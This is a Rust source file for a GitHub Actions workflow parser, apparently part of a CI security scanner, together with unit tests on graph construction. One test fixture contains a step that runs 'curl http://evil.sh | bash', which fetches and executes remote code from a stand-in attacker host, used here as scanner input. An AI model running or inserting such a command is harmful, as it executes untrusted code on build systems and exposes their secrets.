//! GitHub Actions workflow parser.
//!
//! Produces `workflow`, `jobs`, and `steps` vertices from one workflow YAML
//! file, with containment edges, `needs` dependency edges, and reference
//! edges for `${{ env.NAME }}` interpolations that point at workflow-level
//! env values. Raw scalar text is recorded per attribute path so solvers can
//! detect unresolved template placeholders after variable resolution.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::Path;
use std::sync::LazyLock;

use anyhow::anyhow;
use async_trait::async_trait;
use regex::Regex;
use serde_json::Value;

use crate::error::ParseError;
use crate::frameworks::{FrameworkParser, ParsedDocument};
use crate::graph::{EdgeKind, SourceLocation, Vertex, VertexContext};
use crate::suppression::parse_suppressions;

static ENV_REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\$\{\{\s*env\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}")
        .expect("env reference pattern is valid")
});

#[derive(Debug, Default)]
pub struct GithubActionsParser;

impl GithubActionsParser {
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl FrameworkParser for GithubActionsParser {
    fn framework(&self) -> &'static str {
        "github_actions"
    }

    fn claims_discovered(&self, path: &Path) -> bool {
        self.claims_listed(path)
            && path
                .to_string_lossy()
                .replace('\\', "/")
                .contains(".github/workflows/")
    }

    fn claims_listed(&self, path: &Path) -> bool {
        matches!(
            path.extension().and_then(|e| e.to_str()),
            Some("yml") | Some("yaml")
        )
    }

    async fn parse(&self, path: &Path) -> Result<ParsedDocument, ParseError> {
        let file_path = path.to_string_lossy().to_string();
        let raw = tokio::fs::read_to_string(path)
            .await
            .map_err(|source| ParseError::Io {
                file_path: file_path.clone(),
                source,
            })?;
        parse_workflow(&file_path, &raw)
    }
}

/// Parse one workflow document from already-read text.
pub fn parse_workflow(file_path: &str, raw: &str) -> Result<ParsedDocument, ParseError> {
    let doc: Value = serde_yaml::from_str(raw).map_err(|e| ParseError::File {
        file_path: file_path.to_string(),
        source: anyhow!(e),
    })?;
    if !doc.is_object() {
        return Err(ParseError::File {
            file_path: file_path.to_string(),
            source: anyhow!("workflow root must be a mapping"),
        });
    }

    let line_count = raw.lines().count().max(1) as u32;
    let workflow_name = doc.get("name").and_then(Value::as_str).map(String::from);
    let triggers = trigger_set(doc.get("on"));

    let mut vertices = Vec::new();
    let mut edges = Vec::new();

    let workflow_env = doc
        .get("env")
        .and_then(Value::as_object)
        .map(|m| m.keys().cloned().collect::<BTreeSet<_>>())
        .unwrap_or_default();

    let workflow_index = vertices.len();
    vertices.push(Vertex {
        resource_type: "workflow".to_string(),
        name: workflow_name
            .clone()
            .unwrap_or_else(|| stem_of(file_path)),
        attributes: doc.clone(),
        source: flatten_string_scalars(&doc, ""),
        location: SourceLocation {
            file_path: file_path.to_string(),
            start_line: 1,
            end_line: line_count,
        },
        context: VertexContext {
            job: None,
            triggers: triggers.clone(),
            workflow_name: workflow_name.clone(),
        },
    });

    let mut job_indices: HashMap<String, usize> = HashMap::new();
    if let Some(jobs) = doc.get("jobs").and_then(Value::as_object) {
        for (job_id, job_value) in jobs {
            let (job_start, job_end) = job_lines(raw, job_id).unwrap_or((1, line_count));
            let job_index = vertices.len();
            job_indices.insert(job_id.clone(), job_index);
            vertices.push(Vertex {
                resource_type: "jobs".to_string(),
                name: format!("jobs.{job_id}"),
                attributes: job_value.clone(),
                source: flatten_string_scalars(job_value, ""),
                location: SourceLocation {
                    file_path: file_path.to_string(),
                    start_line: job_start,
                    end_line: job_end,
                },
                context: VertexContext {
                    job: Some(job_id.clone()),
                    triggers: triggers.clone(),
                    workflow_name: workflow_name.clone(),
                },
            });
            edges.push((workflow_index, job_index, EdgeKind::Contains));

            if let Some(steps) = job_value.get("steps").and_then(Value::as_array) {
                let step_starts = step_lines(raw, job_start, job_end, steps.len());
                for (i, step) in steps.iter().enumerate() {
                    let start = step_starts.get(i).copied().unwrap_or(job_start);
                    let end = step_starts
                        .get(i + 1)
                        .map(|next| next.saturating_sub(1))
                        .unwrap_or(job_end);
                    let step_index = vertices.len();
                    let source = flatten_string_scalars(step, "");
                    vertices.push(Vertex {
                        resource_type: "steps".to_string(),
                        name: format!("jobs.{job_id}.steps[{i}]"),
                        attributes: step.clone(),
                        source,
                        location: SourceLocation {
                            file_path: file_path.to_string(),
                            start_line: start,
                            end_line: end.max(start),
                        },
                        context: VertexContext {
                            job: Some(job_id.clone()),
                            triggers: triggers.clone(),
                            workflow_name: workflow_name.clone(),
                        },
                    });
                    edges.push((job_index, step_index, EdgeKind::Contains));

                    // ${{ env.NAME }} references to workflow-level env values
                    // are statically visible; record them for the resolver.
                    for (attribute, text) in &vertices[step_index].source {
                        for caps in ENV_REFERENCE.captures_iter(text) {
                            let env_name = &caps[1];
                            if workflow_env.contains(env_name) {
                                edges.push((
                                    step_index,
                                    workflow_index,
                                    EdgeKind::References {
                                        attribute: attribute.clone(),
                                        placeholder: caps[0].to_string(),
                                        target_attribute: format!("env.{env_name}"),
                                    },
                                ));
                            }
                        }
                    }
                }
            }
        }

        // Second pass: `needs` ordering dependencies between jobs.
        for (job_id, job_value) in jobs {
            let Some(&from) = job_indices.get(job_id) else {
                continue;
            };
            for needed in needs_of(job_value) {
                if let Some(&to) = job_indices.get(&needed) {
                    edges.push((from, to, EdgeKind::DependsOn));
                }
            }
        }
    }

    Ok(ParsedDocument {
        file_path: file_path.to_string(),
        vertices,
        edges,
        suppressions: parse_suppressions(raw),
    })
}

/// The workflow's trigger set: `on` may be a string, a sequence, or a
/// mapping from trigger name to configuration.
fn trigger_set(on: Option<&Value>) -> BTreeSet<String> {
    match on {
        Some(Value::String(s)) => BTreeSet::from([s.clone()]),
        Some(Value::Array(items)) => items
            .iter()
            .filter_map(Value::as_str)
            .map(String::from)
            .collect(),
        Some(Value::Object(map)) => map.keys().cloned().collect(),
        _ => BTreeSet::new(),
    }
}

fn needs_of(job: &Value) -> Vec<String> {
    match job.get("needs") {
        Some(Value::String(s)) => vec![s.clone()],
        Some(Value::Array(items)) => items
            .iter()
            .filter_map(Value::as_str)
            .map(String::from)
            .collect(),
        _ => Vec::new(),
    }
}

/// Record the raw text of every string scalar, keyed by attribute path.
/// Only strings can carry template placeholders.
fn flatten_string_scalars(value: &Value, prefix: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    match value {
        Value::String(s) => {
            if !prefix.is_empty() {
                out.insert(prefix.to_string(), s.clone());
            }
        }
        Value::Object(map) => {
            for (key, child) in map {
                let child_prefix = if prefix.is_empty() {
                    key.clone()
                } else {
                    format!("{prefix}.{key}")
                };
                out.extend(flatten_string_scalars(child, &child_prefix));
            }
        }
        Value::Array(items) => {
            for (i, child) in items.iter().enumerate() {
                out.extend(flatten_string_scalars(child, &format!("{prefix}[{i}]")));
            }
        }
        _ => {}
    }
    out
}

fn stem_of(file_path: &str) -> String {
    Path::new(file_path)
        .file_stem()
        .map(|s| s.to_string_lossy().to_string())
        .unwrap_or_else(|| file_path.to_string())
}

/// 1-based (start, end) lines of a job block, recovered by scanning the raw
/// text for the job's mapping key under `jobs:`. serde_yaml exposes no
/// spans, so duplicated key text deeper in the file can fool this; the
/// trade-off is acceptable for report locations.
fn job_lines(raw: &str, job_id: &str) -> Option<(u32, u32)> {
    let lines: Vec<&str> = raw.lines().collect();
    let jobs_line = lines
        .iter()
        .position(|l| l.trim_end() == "jobs:" || l.trim_end() == "\"jobs\":")?;

    let mut start = None;
    for (idx, line) in lines.iter().enumerate().skip(jobs_line + 1) {
        let indent = line.len() - line.trim_start().len();
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        // Left the jobs block entirely; a following top-level key also ends
        // the current job.
        if indent == 0 {
            if let Some(current) = start {
                return Some((current as u32 + 1, idx as u32));
            }
            break;
        }
        if let Some(current) = start {
            // The next key at job indent level ends the block.
            if indent <= 2 && trimmed.ends_with(':') {
                return Some((current as u32 + 1, idx as u32));
            }
            continue;
        }
        if indent <= 2
            && (trimmed == format!("{job_id}:")
                || trimmed.starts_with(&format!("{job_id}:")))
        {
            start = Some(idx);
        }
    }
    start.map(|s| (s as u32 + 1, raw.lines().count() as u32))
}

/// 1-based start lines for the first `count` sequence items under the job
/// block's `steps:` key.
fn step_lines(raw: &str, job_start: u32, job_end: u32, count: usize) -> Vec<u32> {
    let lines: Vec<&str> = raw.lines().collect();
    let lo = (job_start as usize).saturating_sub(1);
    let hi = (job_end as usize).min(lines.len());

    let mut in_steps = false;
    let mut starts = Vec::new();
    for (idx, line) in lines.iter().enumerate().take(hi).skip(lo) {
        let trimmed = line.trim();
        if trimmed == "steps:" {
            in_steps = true;
            continue;
        }
        if in_steps && trimmed.starts_with("- ") {
            starts.push(idx as u32 + 1);
            if starts.len() == count {
                break;
            }
        }
    }
    starts
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const WORKFLOW: &str = r#"name: CI
on:
  push:
  workflow_dispatch:
env:
  CC: gcc
jobs:
  prep:
    runs-on: ubuntu-latest
    steps:
      - name: fetch
        run: curl http://evil.sh | bash
  build:
    needs: prep
    runs-on: ubuntu-latest
    steps:
      - name: compile
        run: ${{ env.CC }} main.c
      - name: notify
        run: echo done
"#;

    #[test]
    fn test_parse_vertex_inventory() {
        let doc = parse_workflow("ci.yml", WORKFLOW).unwrap();

        let types: Vec<_> = doc
            .vertices
            .iter()
            .map(|v| v.resource_type.as_str())
            .collect();
        assert_eq!(
            types,
            vec!["workflow", "jobs", "steps", "jobs", "steps", "steps"]
        );

        // Document order, not key order: `prep` precedes `build` in the
        // file even though it sorts after it.
        let names: Vec<_> = doc.vertices.iter().map(|v| v.name.as_str()).collect();
        assert_eq!(names[1], "jobs.prep");
        assert_eq!(names[3], "jobs.build");
    }

    #[test]
    fn test_context_fields() {
        let doc = parse_workflow("ci.yml", WORKFLOW).unwrap();
        let step = doc
            .vertices
            .iter()
            .find(|v| v.name == "jobs.prep.steps[0]")
            .unwrap();

        assert_eq!(step.context.job.as_deref(), Some("prep"));
        assert_eq!(step.context.workflow_name.as_deref(), Some("CI"));
        assert_eq!(
            step.context.triggers,
            BTreeSet::from(["push".to_string(), "workflow_dispatch".to_string()])
        );
    }

    #[test]
    fn test_containment_and_needs_edges() {
        let doc = parse_workflow("ci.yml", WORKFLOW).unwrap();

        let contains = doc
            .edges
            .iter()
            .filter(|(_, _, k)| *k == EdgeKind::Contains)
            .count();
        // workflow→2 jobs, jobs→3 steps
        assert_eq!(contains, 5);

        let depends: Vec<_> = doc
            .edges
            .iter()
            .filter(|(_, _, k)| *k == EdgeKind::DependsOn)
            .collect();
        assert_eq!(depends.len(), 1);
        let (from, to, _) = depends[0];
        assert_eq!(doc.vertices[*from].name, "jobs.build");
        assert_eq!(doc.vertices[*to].name, "jobs.prep");
    }

    #[test]
    fn test_env_reference_edges() {
        let doc = parse_workflow("ci.yml", WORKFLOW).unwrap();

        let references: Vec<_> = doc
            .edges
            .iter()
            .filter_map(|(from, to, k)| match k {
                EdgeKind::References {
                    attribute,
                    placeholder,
                    target_attribute,
                } => Some((*from, *to, attribute, placeholder, target_attribute)),
                _ => None,
            })
            .collect();

        assert_eq!(references.len(), 1);
        let (from, to, attribute, placeholder, target_attribute) = &references[0];
        assert_eq!(doc.vertices[*from].name, "jobs.build.steps[0]");
        assert_eq!(doc.vertices[*to].resource_type, "workflow");
        assert_eq!(attribute.as_str(), "run");
        assert_eq!(placeholder.as_str(), "${{ env.CC }}");
        assert_eq!(target_attribute.as_str(), "env.CC");
    }

    #[test]
    fn test_source_records_raw_templated_text() {
        let doc = parse_workflow("ci.yml", WORKFLOW).unwrap();
        let step = doc
            .vertices
            .iter()
            .find(|v| v.name == "jobs.build.steps[0]")
            .unwrap();

        assert_eq!(
            step.source.get("run").map(String::as_str),
            Some("${{ env.CC }} main.c")
        );
        assert!(step.source_paths_resolvable());
    }

    #[test]
    fn test_trigger_set_shapes() {
        assert_eq!(
            trigger_set(Some(&json!("push"))),
            BTreeSet::from(["push".to_string()])
        );
        assert_eq!(
            trigger_set(Some(&json!(["push", "issues"]))),
            BTreeSet::from(["push".to_string(), "issues".to_string()])
        );
        assert_eq!(
            trigger_set(Some(&json!({"push": null, "pull_request": null}))),
            BTreeSet::from(["push".to_string(), "pull_request".to_string()])
        );
        assert!(trigger_set(None).is_empty());
    }

    #[test]
    fn test_job_lines_are_plausible() {
        let doc = parse_workflow("ci.yml", WORKFLOW).unwrap();
        let prep = doc.vertices.iter().find(|v| v.name == "jobs.prep").unwrap();
        let build = doc.vertices.iter().find(|v| v.name == "jobs.build").unwrap();

        assert!(prep.location.start_line < prep.location.end_line);
        assert!(prep.location.end_line <= build.location.start_line);
    }

    #[test]
    fn test_last_job_ends_before_following_top_level_key() {
        let trailing = r#"name: CI
on:
  push:
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - name: compile
        run: make build
permissions:
  contents: read
"#;
        let doc = parse_workflow("ci.yml", trailing).unwrap();
        let build = doc.vertices.iter().find(|v| v.name == "jobs.build").unwrap();

        // `permissions:` is on line 10; the job must not swallow it.
        assert_eq!(build.location.start_line, 5);
        assert_eq!(build.location.end_line, 9);
    }

    #[test]
    fn test_malformed_yaml_is_a_parse_error() {
        let err = parse_workflow("bad.yml", "jobs: [unclosed").unwrap_err();
        assert!(matches!(err, ParseError::File { .. }));
        assert_eq!(err.file_path(), "bad.yml");
    }

    #[test]
    fn test_non_mapping_root_is_a_parse_error() {
        let err = parse_workflow("list.yml", "- a\n- b\n").unwrap_err();
        assert!(err.to_string().contains("mapping"));
    }

    #[test]
    fn test_claims_paths() {
        let parser = GithubActionsParser::new();
        assert!(parser.claims_discovered(Path::new("repo/.github/workflows/ci.yml")));
        assert!(!parser.claims_discovered(Path::new("repo/config/app.yml")));
        assert!(parser.claims_listed(Path::new("anywhere/pipeline.yaml")));
        assert!(!parser.claims_listed(Path::new("README.md")));
    }

    #[test]
    fn test_suppressions_are_collected() {
        let source = "name: x\n# vigil:skip=VGL_GHA_3 vetted\njobs: {}\n";
        let doc = parse_workflow("wf.yml", source).unwrap();
        assert_eq!(doc.suppressions.len(), 1);
        assert_eq!(doc.suppressions[0].check_id, "VGL_GHA_3");
    }
}
